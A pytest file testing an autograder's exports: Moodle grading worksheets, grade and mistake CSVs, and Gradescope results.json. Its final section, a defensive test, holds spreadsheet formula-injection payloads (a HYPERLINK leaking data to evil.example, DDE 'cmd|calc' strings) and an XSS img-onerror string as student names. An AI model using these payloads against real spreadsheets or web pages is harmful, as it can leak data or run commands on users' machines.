"""Exports read from nbgrader's gradebook and our state files: the Moodle round trip (archive in,
grading worksheet out), the grade and per-mistake CSVs, and Gradescope's results.json; and, red team
(issue 21), no CSV cell that a spreadsheet would run as a formula from a student's name, id or message."""

from __future__ import annotations

import csv
import json
import re
import shutil
from pathlib import Path

import pytest

from autograder.batch import Layout, grade_batch
from autograder.cli import main
from autograder.collect import collect
from autograder.config import PROJECT_ROOT, load_settings
from autograder.exports import gradescope_results
from test_collect import EXAMPLES, RELEASE_NB, moodle_archive

FULL = EXAMPLES / "full_solution" / "pdp" / "pdp.ipynb"

# Gradescope autograder specification ("Output format", results.json): the documented fields.
GRADESCOPE_TOP = {"score", "execution_time", "output", "output_format", "test_output_format", "test_name_format",
                  "visibility", "stdout_visibility", "extra_data", "tests", "leaderboard"}
GRADESCOPE_TEST = {"score", "max_score", "status", "name", "name_format", "number", "output", "output_format",
                   "tags", "visibility", "extra_data"}
VISIBILITY = {"hidden", "after_due_date", "after_published", "visible"}
FORMATS = {"text", "html", "simple_format", "md", "ansi"}


def validate_gradescope(results: dict) -> None:
    assert set(results) <= GRADESCOPE_TOP, set(results) - GRADESCOPE_TOP
    assert "score" in results or all("score" in t for t in results["tests"])  # one of them is required
    assert isinstance(results["score"], float)
    assert isinstance(results["execution_time"], int) and results["execution_time"] >= 0
    assert isinstance(results["output"], str)
    assert results["visibility"] in VISIBILITY and results["stdout_visibility"] in VISIBILITY
    assert results.get("output_format", "text") in FORMATS
    assert isinstance(results["tests"], list) and results["tests"]
    for test in results["tests"]:
        assert set(test) <= GRADESCOPE_TEST, set(test) - GRADESCOPE_TEST
        assert isinstance(test["score"], float) and isinstance(test["max_score"], float)
        assert 0 <= test["score"] <= test["max_score"]
        assert test["status"] in {"passed", "failed"}
        assert (test["status"] == "passed") == (test["score"] == test["max_score"])
        assert isinstance(test["name"], str) and test["name"] and isinstance(test["output"], str)
        assert test["visibility"] in VISIBILITY and test.get("output_format", "text") in FORMATS
        assert isinstance(test.get("tags", []), list) and isinstance(test["number"], str)
    assert results["score"] == sum(t["score"] for t in results["tests"])  # top-level score overrides: keep equal


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """Moodle archive in (Anna: full solution; Jörg: buggy_axis in a nested zip), graded once."""
    root = tmp_path_factory.mktemp("moodle")
    layout = Layout(PROJECT_ROOT, root / "submitted", root / "out")
    layout.output.mkdir()
    from autograder.nbgrader_bridge import register_assignment

    register_assignment("pdp", PROJECT_ROOT / "source", layout.db_url)
    collect("pdp", moodle_archive(root / "moodle.zip"), layout.submissions, RELEASE_NB, layout.db_url)
    shutil.rmtree(layout.submissions / "p1006")  # two students are enough to grade here
    grade_batch(["pdp"], layout, load_settings(PROJECT_ROOT))
    from nbgrader.api import Gradebook

    with Gradebook(layout.db_url) as gradebook:  # the instructor grades a discussion answer by hand (as formgrader's
        grade = gradebook.find_grade("answer_regions", "pdp", "pdp", "p1002")  # PUT /formgrader/api/grade/<id>)
        grade.manual_score, grade.needs_manual_grade = 1.5, False
        gradebook.db.commit()
    return layout


def _worksheet(path: Path) -> tuple[list[str], dict]:
    with path.open(newline="", encoding="utf-8") as handle:
        reader = csv.reader(handle)
        header = next(reader)
        return header, {row[0]: dict(zip(header, row)) for row in reader}


def test_exports_refuse_totals_that_still_wait_for_hand_grades(course, tmp_path, capsys):
    """Anna's three answers and two of Jörg's are not graded by hand: neither the grade CSV nor the Moodle worksheet
    is written without --allow-incomplete, and the refusal says how many answers of whom wait."""
    for option in ("--csv", "--moodle"):
        target = tmp_path / f"out{option}.csv"
        with pytest.raises(SystemExit, match="--allow-incomplete"):
            main(["export", "pdp", "--output", str(course.output), option, str(target)])
        assert not target.exists()
    err = capsys.readouterr().err
    assert "pdp: 7 Antwort(en) von 2 Studierenden warten noch" in err
    assert ("p1001 (answer_lstat, answer_models, answer_pdp_lies, answer_regions)" in err
            and "p1002 (answer_lstat, answer_models, answer_pdp_lies)" in err)


@pytest.mark.parametrize("language", ["de", "en"])
def test_moodle_round_trip_archive_in_grading_worksheet_out(course, tmp_path, language):
    """The worksheet in the Moodle's language (German by default): Moodle's own headers (its language packs), the
    Identifier as Moodle writes it (hiddenuser + participant id: its importer strips exactly that prefix), grades with
    the language's decimal separator; provisional totals say so in the feedback's first line."""
    from autograder.exports import MOODLE_STRINGS, moodle_columns, parse_moodle_number

    target = tmp_path / "moodle.csv"
    language_args = [] if language == "de" else ["--moodle-language", "en"]
    assert main(["export", "pdp", "--output", str(course.output), "--moodle", str(target), "--allow-incomplete",
                 *language_args]) == 0
    header, rows = _worksheet(target)
    assert header == moodle_columns(language)
    strings = MOODLE_STRINGS[language]
    prefix = strings["hiddenuser"]
    assert set(rows) == {f"{prefix}1001", f"{prefix}1002"}  # p1006 was collected but not graded
    anna, joerg = rows[f"{prefix}1001"], rows[f"{prefix}1002"]
    grade, comments = strings["gradenoun"], strings["feedbackcomments"]
    assert anna[strings["fullname"]] == "Anna Schmidt" and joerg[strings["fullname"]] == "Jörg Müller"
    assert parse_moodle_number(anna[grade], language) == 14.0  # 14 automatic, the 13 by hand still to come
    assert parse_moodle_number(anna[strings["maxgrade"]], language) == 27.0
    assert parse_moodle_number(joerg[grade], language) == 12.5  # 11 autograded + 1.5 by hand: the gradebook's total
    assert ("," in joerg[grade]) == (language == "de")
    if language == "de":
        assert "falsche Achse" in joerg[comments] and "pdp_1d.values" in joerg[comments]
        assert "Alle automatischen Prüfungen bestanden" in anna[comments]
        assert joerg[comments].startswith("<p>Vorläufige Bewertung: 3 Bewertung(en) von Hand stehen noch aus.</p>")
        assert "Frage 2 (3 Punkte): Regionen des 2-D-PDP: 1,5 von 3 Punkten" in joerg[comments]
    else:
        assert joerg[comments].startswith("<p>Provisional grade: 3 hand grade(s) still to come.</p>")
    assert joerg[strings["lastmodifiedgrade"]] and joerg[strings["gradecanbechanged"]] == strings["yes"]
    assert joerg[strings["status"]] == strings["submissionstatus_submitted"]


def test_grades_csv_and_mistakes_csv(course, tmp_path):
    target = tmp_path / "grades.csv"
    assert main(["export", "--output", str(course.output), "--csv", str(target), "--allow-incomplete"]) == 0
    rows = {r["student_id"]: r for r in csv.DictReader(target.open(encoding="utf-8"))}
    assert set(rows) >= {"p1001", "p1002"}
    assert float(rows["p1002"]["pdp"]) == 12.5 and float(rows["p1002"]["total"]) == 12.5
    assert float(rows["p1001"]["pdp"]) == 14.0 and rows["p1001"]["last_name"] == "Schmidt"
    assert rows["p1001"]["hand_grades_pending"] == "pdp:4" and rows["p1002"]["hand_grades_pending"] == "pdp:3"
    assert rows.get("p1006", {}).get("pdp", "") == ""  # collected but not graded: no score, not zero
    checks = list(csv.DictReader((tmp_path / "grades_checks.csv").open(encoding="utf-8")))
    wrong_axis = [r for r in checks if r["message_key"] == "mean_over_wrong_axis"]
    assert {r["check"] for r in wrong_axis} == {"pdp_1d.linear_exact", "pdp_1d.values"}
    assert all(r["students"] == "1" and r["student_ids"] == "p1002" and r["passed"] == "no" for r in wrong_axis)
    assert checks[0]["passed"] == "no"  # mistakes first
    passed = [r for r in checks if r["check"] == "pdp_2d.values" and r["message_key"] == "passed"]
    assert passed[0]["students"] == "2" and float(passed[0]["share"]) == 1.0


def test_gradescope_results_follow_the_documented_format(course, tmp_path):
    assert main(["--language", "en", "export", "--output", str(course.output), "--gradescope", str(tmp_path)]) == 0
    files = sorted(tmp_path.glob("pdp/*/results.json"))
    assert [f.parent.name for f in files] == ["p1001", "p1002"]
    for path in files:
        validate_gradescope(json.loads(path.read_text()))
    joerg = json.loads((tmp_path / "pdp" / "p1002" / "results.json").read_text())
    assert joerg["score"] == 11.0 and joerg["extra_data"]["max_score"] == 14.0
    failed = {t["name"]: t for t in joerg["tests"] if t["status"] == "failed"}
    assert set(failed) == {"1-D PDP of a linear model (known exactly) (pdp_1d.linear_exact)",
                           "1-D PDP of random forest, gradient boosting and a model with an interaction (pdp_1d.values)"}
    assert all("falsche Achse" in t["output"] for t in failed.values())  # graded in German: the student's message


def test_gradescope_validation_rejects_what_the_format_does_not_allow():
    state = {"report": {"c": {"score": 1, "max_score": 1, "message": "ok", "message_key": "passed", "task": "t"}}}
    good = gradescope_results(state)
    validate_gradescope(good)
    for broken in ({**good, "visibility": "public"}, {**good, "grade": 1.0},
                   {**good, "tests": [{**good["tests"][0], "status": "ok"}]},
                   {**good, "score": good["score"] + 1}):
        with pytest.raises(AssertionError):
            validate_gradescope(broken)


# --- CSV exports: no formula from a student's name, id or message (issue 21) --------------------------------------

# (no "/" in a name: Moodle's folder names hold none, and it would split the archive's path)
FORMULAS = ['=HYPERLINK("https:evil.example?leak="&A1,"Notizen")', "+cmd|' -c calc'!A0", "@SUM(1+1)*cmd|' -c calc'!A0",
            "-2+3+cmd|' -c calc'!A0", "\t=1+1"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _moodle_archive(path: Path) -> Path:
    import zipfile

    with zipfile.ZipFile(path, "w") as archive:
        for number, name in enumerate(FORMULAS, start=2001):
            archive.writestr(f"{name} Nachname_{number}_assignsubmission_file_/pdp.ipynb", FULL.read_bytes())
            archive.writestr(f"Vorname {name}_{number + 100}_assignsubmission_file_/pdp.ipynb", FULL.read_bytes())
        # formgrader prints names unescaped into its page (Moodle's own folder names never hold markup)
        archive.writestr('Eve <img src=x onerror="alert(1)">_2999_assignsubmission_file_/pdp.ipynb', FULL.read_bytes())
    return path


def _cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def test_no_csv_export_starts_a_cell_with_a_formula_from_a_student(tmp_path):
    """Before: a student named ``=HYPERLINK(...)`` (or ``+cmd|...``, ``@SUM(...)``) came out as a formula in
    grades.csv and the Moodle worksheet, an id or message in grades_checks.csv. Now every such cell is
    quoted, and names from Moodle reach the gradebook without formula or markup characters at all."""
    from nbgrader.api import Gradebook

    from autograder.nbgrader_bridge import record_scores, register_assignment

    layout = Layout(PROJECT_ROOT, tmp_path / "submitted", tmp_path / "out")
    layout.output.mkdir()
    register_assignment("pdp", PROJECT_ROOT / "source", layout.db_url)
    report = collect("pdp", _moodle_archive(tmp_path / "moodle.zip"), layout.submissions, RELEASE_NB, layout.db_url)
    collected = [placed[0] for placed in report.placed]
    assert len(collected) == 2 * len(FORMULAS) + 1
    with Gradebook(layout.db_url) as gradebook:
        names = {s.id: (s.first_name, s.last_name) for s in gradebook.students}
    assert not [name for pair in names.values() for name in pair if name.startswith(FORMULA_START)], names
    assert ("Eve img src=x onerror=alert(1)" in [" ".join(pair) for pair in names.values()]
            and not any(c in name for pair in names.values() for name in pair for c in '<>"&'))
    # names as other tools put them into the gradebook (nbgrader db student add, a roster import), and an id
    # from a folder of that name
    students = collected + ["@SUM(1+1)"]
    with Gradebook(layout.db_url) as gradebook:
        for student, formula in zip(collected, FORMULAS + FORMULAS):
            gradebook.update_or_create_student(student, first_name=formula, last_name=formula[::-1],
                                               email=formula + "@example.org")
    check = {"score": 0.0, "max_score": 2.0, "task": "test_pdp_1d", "message_key": "exception",
             "message": "=cmd|' /C calc'!A0 (the error text of the student's function)"}
    for student in students:
        record_scores(layout.db_url, "pdp", "pdp", student, {"test_pdp_1d": 2.0})
        state = layout.state_file(student, "pdp")
        state.parent.mkdir(parents=True, exist_ok=True)
        state.write_text(json.dumps({"report": {"pdp_1d.values": check}, "score": 0, "max_score": 2, "seconds": 1}))
    with Gradebook(layout.db_url) as gradebook:  # a score that is negative is a number, not text
        gradebook.find_grade("answer_lstat", "pdp", "pdp", "@SUM(1+1)").manual_score = -5.0
        gradebook.db.commit()
    grades = tmp_path / "grades.csv"
    moodle = tmp_path / "moodle.csv"
    assert main(["export", "--output", str(layout.output), "--csv", str(grades), "--allow-incomplete"]) == 0
    assert main(["export", "pdp", "--output", str(layout.output), "--moodle", str(moodle), "--allow-incomplete"]) == 0
    exported = {path.name: _cells(path) for path in (grades, tmp_path / "grades_checks.csv", moodle)}
    for name, cells in exported.items():
        bad = [cell for cell in cells if cell.startswith(FORMULA_START)
               and not re.fullmatch(r"-\d+([.,]\d+)?|-", cell)]  # (numbers, also German "-3,00"; "-": no date)
        assert not bad, (name, bad)
    assert "'@SUM(1+1)" in exported["grades.csv"] and "-3" in exported["grades.csv"]  # the id quoted, -3 a number
    assert {f"'{formula}" for formula in FORMULAS} <= set(exported["grades.csv"])  # quoted, otherwise as given
    assert "'=cmd|' /C calc'!A0 (the error text of the student's function)" in exported["grades_checks.csv"]
    moodle_cells = set(exported["moodle.csv"])
    assert f"'{FORMULAS[0]} {FORMULAS[0][::-1]}" in moodle_cells and f"'{FORMULAS[1]}@example.org" in moodle_cells
    from autograder.exports import as_text  # (tab and CR first: collect shows them as "?"; other text may hold them)

    assert [as_text(v) for v in ("\t=1+1", "\r=1+1", "Anna", None)] == ["'\t=1+1", "'\r=1+1", "Anna", ""]
